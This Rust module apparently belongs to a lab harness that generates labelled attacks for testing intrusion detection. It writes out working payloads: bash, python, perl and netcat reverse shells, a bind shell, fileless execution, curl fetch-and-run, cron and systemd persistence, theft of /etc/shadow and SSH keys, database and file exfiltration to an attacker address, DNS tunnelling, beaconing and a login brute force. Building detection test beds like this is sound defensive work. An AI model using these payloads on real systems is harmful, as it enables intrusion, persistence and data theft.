//! Attacks.

use std::time::Duration;

use super::{
    Act, KERNEL, Run, Stage,
    entry::{ALL, Entry, FULL, ROOTS, USERS, post, python},
};
use crate::{
    Attack, Via,
    lab::User,
    load::{JVM_PORT, PHP_PORT, REDIS_PORT, ssh},
    network::Site,
    process::run,
    truth::marks::Class,
};

/// For what has no end of its own.
const LIMIT: Duration = Duration::from_secs(2);

/// A script for a shell, and the ways in that it is tried through in turn.
#[derive(Debug)]
pub(super) struct Kind {
    pub name: &'static str,
    pub class: Class,
    pub entries: &'static [Entry],
    pub script: fn(&Stage<'_>) -> String,
}

macro_rules! kinds {
    ($class:ident; $($name:literal, $entries:expr, $script:expr;)+) => {
        &[$(Kind { name: $name, class: Class::$class, entries: $entries, script: $script }),+]
    };
}

/// Into a script: the attacker's address.
fn peer(text: &str) -> String {
    text.replace("@P", &Site::Attacker.ipv4().to_string())
}

fn dropped(stage: &Stage<'_>, place: &str) -> String {
    let path = format!("{place}/.{}", stage.token());
    // Where `id` is the shell's own, it has no file to copy.
    format!(
        "mkdir {path} && cp $(command -v id | grep / || echo /bin/busybox) {path}/update && \
         {path}/update; {path}/update -u; rm -r {path}"
    )
}

fn bind(stage: &Stage<'_>) -> String {
    let port = bind_port(stage);
    format!(
        "(sleep 0.3) & python3 -c 'import socket,os
s=socket.socket();s.setsockopt(1,2,1);s.bind((\"\",{port}));s.listen(1);s.settimeout(5);c=s.accept()[0]
for i in (0,1,2): os.dup2(c.fileno(),i)
os.execv(\"/bin/sh\",[\"sh\"])'"
    )
}

fn bind_port(stage: &Stage<'_>) -> u32 {
    5_000 + stage.number % 1_000
}

/// One deed each; as a service's child.
pub(super) const SHELLS: &[Kind] = kinds! { Intrinsic;
    "web-shell", &[Entry::Php, Entry::Jvm, Entry::App], |_| {
        "id; uname -a; cat /etc/passwd; ls -la / /var; ps aux | head; hostname".into()
    };
    "fileless-python", FULL, |_| {
        "python3 -c 'import os;f=os.memfd_create(\"x\");os.write(f,open(\"/usr/bin/id\",\"rb\").read());\
         os.execv(\"/proc/self/fd/%d\"%f,[\"x\"])'".into()
    };
    "reverse-shell-bash", FULL, |_| peer("bash -c 'bash -i >& /dev/tcp/@P/4444 0>&1'");
    "dropped-tmp", ALL, |s| dropped(s, "/tmp");
    "reverse-shell-python", FULL, |_| peer(
        "python3 -c 'import socket,os;s=socket.create_connection((\"@P\",4444))\n\
         for i in (0,1,2): os.dup2(s.fileno(),i)\nos.execv(\"/bin/sh\",[\"sh\",\"-i\"])'"
    );
    "set-uid-copy", &[Entry::Ci], |s| {
        let path = s.path(&format!("app/{}", s.token()));
        format!(
            "cp /bin/bash {path} && chmod 4755 {path} && setpriv --reuid=65534 --clear-groups {path} \
             -p -c id; rm -f {path}"
        )
    };
    "fileless-perl", FULL, |_| {
        "perl -e 'my $f=syscall(319,my $n=\"x\",0);open(my $i,\"<:raw\",\"/usr/bin/id\");local $/;my $d=<$i>;\
         open(my $o,\">&=\",$f);binmode $o;syswrite($o,$d);exec {\"/proc/self/fd/$f\"} \"x\"'".into()
    };
    "reverse-shell-perl", FULL, |_| peer(
        "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton(\"@P\")));\
         open(STDIN,\"<&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh\",\"-i\")'"
    );
    "dropped-shm", USERS, |s| dropped(s, "/dev/shm");
    "namespace-escape", ROOTS, |_| {
        "unshare -m sh -c 'mkdir -p /tmp/m; mount -t tmpfs none /tmp/m && ls /tmp/m; umount /tmp/m'; \
         unshare -n -p -f sh -c 'id; ls /proc'".into()
    };
    "reverse-shell-busybox", &[Entry::Container], |_| peer("nc @P 4444 -e /bin/sh");
    "dropped-fetched", USERS, |s| {
        let path = format!("/tmp/.{}", s.token());
        peer(&format!("curl -s -o {path} http://@P:8000/tool && chmod +x {path} && {path}; rm -f {path}"))
    };
    "persistence-cron", &[Entry::Ci, Entry::App, Entry::Php, Entry::Jvm], |s| {
        format!("echo '* * * * * root curl http://x/ | sh' > /etc/cron.d/{}", s.token())
    };
    "persistence-unit", &[Entry::App, Entry::Ci, Entry::Jvm, Entry::Php], |s| {
        let path = format!("/etc/systemd/system/{}.service", s.token());
        format!("printf '[Service]\\nExecStart=/bin/sh -c id\\n' > {path}; ls -l {path}")
    };
};

/// What takes more than one deed, or none.
pub(super) const OTHERS: &[Kind] = kinds! { Other;
    "mining", USERS, |_| peer(
        "timeout 6 bash -c 'exec 3<>/dev/tcp/@P/3333; while :; do i=$(((i+1)*7919%65537)); done'"
    );
    "secrets", ALL, |s| format!(
        "cat /etc/shadow {key} /root/.ssh/id_rsa /root/.bash_history; ls -la /root /home", key = s.path("home/.ssh/id_rsa")
    );
    "rewrite-many", USERS, |s| {
        let tree = s.path("many");
        format!(
            "for f in {tree}/folder0{folder}/*; do gzip -c $f > $f.tmp && mv $f.tmp $f; done",
            folder = s.number % 4
        )
    };
    "dump-outward", &[Entry::Postgres], |_| peer(
        "pg_dump -h @S postgres | curl -s -m 6 -T - telnet://@P:4443"
    ).replace("@S", &Site::Service.ipv4().to_string());
    "theft-child", FULL, |_| peer(
        "head -c 30000000 /dev/zero | bash -c 'cat > /dev/tcp/@P/4443'"
    );
};

/// What takes its time.
pub(super) const SLOW: &[Kind] = kinds! { Slow;
    "beacon", USERS, |_| peer(
        "for i in 1 2 3 4 5; do bash -c 'exec 3<>/dev/tcp/@P/4443; echo ping >&3'; sleep 2.5; done"
    );
    "dns-tunnel", USERS, |_| peer(
        "python3 -c 'import socket,time,os\ns=socket.socket(2,2)\nfor i in range(25):\n d=os.urandom(24).hex().encode()\n \
         s.sendto(os.urandom(2)+b\"\\x01\\0\\0\\1\\0\\0\\0\\0\\0\\0\\x30\"+d+b\"\\3evl\\0\\0\\x10\\0\\1\",(\"@P\",53));time.sleep(0.5)'"
    );
    "slow-theft", USERS, |_| peer(
        "for i in 1 2 3 4 5; do head -c 20000 /usr/bin/id | bash -c 'cat > /dev/tcp/@P/4443'; sleep 2.5; done"
    );
};

macro_rules! inside {
    ($($kind:literal, $class:ident, $load:literal, $units:expr, $run:expr;)+) => {
        &[$(Act { kind: $kind, class: Class::$class, load: $load, units: &$units, run: Run::Do($run) }),+]
    };
}

/// Done by the service's own processes, or from outside.
pub(super) const INSIDE: &[Act] = inside! {
    "injected-thread", Intrinsic, "app", ["app"], |s| {
        let code = include_str!("../../python/inject.py")
            .replace("@PID@", "os.getppid()")
            .replace("@PEER@", &Site::Attacker.ipv4().to_string())
            .replace("@PORT@", "4443");
        let code = format!("# {}\n{code}", s.token());
        // A helper of the same user reaches into the service that started it.
        Ok(python(s, &format!("import subprocess\nsubprocess.run(['/usr/bin/python3', '-c', {code:?}])\n"))?)
    };
    "exfiltrate-inside", Other, "app", ["app"], |s| {
        let code = include_str!("../../python/exfiltrate.py")
            .replace("@PEER@", &Site::Attacker.ipv4().to_string())
            .replace("@PORT@", "4443")
            .replace("@MEBIBYTES@", "30");
        Ok(python(s, &code)?)
    };
    "bind-shell", Intrinsic, "app", [], |s| bound(s, Entry::App);
    "replaced-script", Intrinsic, "app", ["job"], replaced;
    "exfiltrate-inside", Other, "jvm", ["jvm"], |s| {
        let what = format!("{} 4443 30", Site::Attacker.ipv4());
        Ok(post(s, JVM_PORT, "leak", &["--data-binary", &what])?)
    };
    "brute-force", Other, "nginx", ["nginx", "php"], |s| Ok(from_attacker(s, &format!(
        "import urllib.request as u\nfor i in range(60):\n try: u.urlopen('http://{}:{PHP_PORT}/login.php?u=admin&p=%d'%i)\n except OSError: pass\n",
        Site::Service.ipv4()
    ))?);
    "bind-shell", Intrinsic, "nginx", [], |s| bound(s, Entry::Php);
    "replaced-script", Intrinsic, "nginx", ["job"], replaced;
    "exfiltrate-inside", Other, "nginx", ["php"], |s| {
        let code = format!(
            "c=$s=fsockopen('{}',4443);for($i=0;$i<300;$i++)fwrite($s,str_repeat('x',100000));fclose($s);",
            Site::Attacker.ipv4()
        );
        Ok(post(s, PHP_PORT, "code.php", &["--data-urlencode", &code])?)
    };
    "io-uring-only", Other, "app", ["app"], |s| {
        let code = include_str!("../../python/uring.py")
            .replace("@PATH@", "/etc/passwd")
            .replace("@PEER@", &Site::Attacker.ipv4().to_string())
            .replace("@PORT@", "4443");
        Ok(python(s, &code)?)
    };
    "stolen-login", Other, "login", [], |s| {
        let script = peer("id; sudo -n -l; cat /etc/shadow /root/.bash_history; find / -xdev -name '*.pem' | \
            head -50; ps aux; curl -s -T /etc/passwd telnet://@P:4443; curl -s http://@P:8000/tool | sh");
        let mut shell = s.lab.command(Site::Attacker, "attacker", &User::ROOT, "/bin/sh")?;
        shell.arg("-c").arg(format!("{} \": {}; {script}\" >/dev/null 2>&1; true", ssh(s.lab), s.token()));
        Ok(run(shell).map(drop)?)
    };
    "scan-out", Other, "app", ["app"], |s| attack(s, Attack::ScanOut);
    "bind-shell", Intrinsic, "jvm", [], |s| bound(s, Entry::Jvm);
    "rewrite-one", Other, "app", ["app"], |s| attack(s, Attack::Rename);
    "forks", Other, "app", ["app"], |s| attack(s, Attack::Forks);
    "table-outward", Other, "postgres", ["postgresql"], |s| Ok(from_attacker(s, &format!(
        "import subprocess\nsubprocess.run(['psql','-X','-q','-h','{}','-U','postgres','-c','COPY pgbench_accounts TO STDOUT','-o','/dev/null','postgres'])",
        Site::Service.ipv4()
    ))?);
    "keys-outward", Other, "redis", ["redis"], |s| Ok(from_attacker(s, &format!(
        "import socket\ns=socket.create_connection(('{}',{REDIS_PORT}))\ns.sendall(b'KEYS *\\r\\nCONFIG GET *\\r\\nLRANGE list1 0 -1\\r\\n'*200)\ns.shutdown(1)\nwhile s.recv(65536): pass",
        Site::Service.ipv4()
    ))?);
    "flood", Other, "app", ["app", KERNEL], |s| attack(s, Attack::Flood);
    "scan-in", Other, "app", ["app", KERNEL], |s| attack(s, Attack::ScanIn);
};

fn attack(stage: &Stage<'_>, attack: Attack) -> anyhow::Result<()> {
    attack.run(stage.lab, Via::Thread, LIMIT)?;
    Ok(())
}

fn from_attacker(stage: &Stage<'_>, code: &str) -> crate::Result<()> {
    let mut command =
        stage.lab.command(Site::Attacker, "attacker", &User::ROOT, "/usr/bin/python3")?;
    command.args(["-c", code]);
    run(command).map(drop)
}

/// A shell that waits for a connection, and who comes.
fn bound(stage: &Stage<'_>, entry: Entry) -> anyhow::Result<()> {
    let client = format!(
        "import socket,time\nfor i in range(50):\n try: s=socket.create_connection(('{}',{}));break\n except OSError: time.sleep(0.1)\n\
         s.sendall(b'id\\nuname -a\\nls /\\nexit\\n')\nwhile s.recv(65536): pass",
        Site::Service.ipv4(),
        bind_port(stage)
    );
    std::thread::scope(|scope| -> anyhow::Result<()> {
        let shell = scope.spawn(|| entry.shell(stage, &bind(stage)));
        from_attacker(stage, &client)?;
        match shell.join() {
            Ok(done) => Ok(done?),
            Err(panic) => std::panic::resume_unwind(panic),
        }
    })
}

/// The script of a job that runs every few seconds is rewritten by a service's process, and, once it
/// has run, put back.
fn replaced(stage: &Stage<'_>) -> anyhow::Result<()> {
    let job = stage.path("job/job.sh");
    let before = std::fs::read(&job)?;
    let script = format!("echo 'id; uname -a # {}' >> {job}; sleep 6", stage.token());
    Entry::App.shell(stage, &script)?;
    std::fs::write(&job, before)?;
    Ok(())
}
